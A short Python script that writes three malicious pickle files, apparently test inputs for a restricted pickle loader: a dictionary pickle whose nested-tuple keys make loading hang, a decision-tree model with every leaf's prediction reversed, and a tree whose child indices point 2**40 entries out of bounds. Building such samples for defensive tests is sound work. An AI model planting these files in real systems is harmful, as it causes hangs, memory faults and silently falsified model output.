import json
import pickle
from pathlib import Path

from strict_pickle import load


class Call:
    """Pickles as what a __reduce__ of your choice returns."""

    def __init__(self, *reduced):
        """Take the function, its arguments, and what else is to be done."""
        self.reduced = reduced

    def __reduce__(self) -> tuple:
        """Return what loading shall do."""
        return self.reduced


# Two equal keys of 2**40 parts each: an empty tuple, 40 times paired with
# itself. To compare the keys takes for ever.
key = b")" + b"2\x86" * 40 + b"N"
Path("hang.pkl").write_bytes(b"\x80\x04}" + key + b"s" + key + b"s.")

# Another model: each leaf of the tree says the opposite.
allowed = json.loads(Path("allowed.json").read_text())
model = load("model.pkl", allowed)
model.tree_.value[:] = model.tree_.value[:, :, ::-1].copy()
Path("weights.pkl").write_bytes(pickle.dumps(model, protocol=5))

# A tree whose first branch leads far out of its memory.
make, arguments, state = model.tree_.__reduce__()
for side in ("left_child", "right_child"):
    state["nodes"][side][0] = 2**40
vars(model)["tree_"] = Call(make, arguments, state)
Path("tree.pkl").write_bytes(pickle.dumps(model, protocol=5))

print("made 3 files")
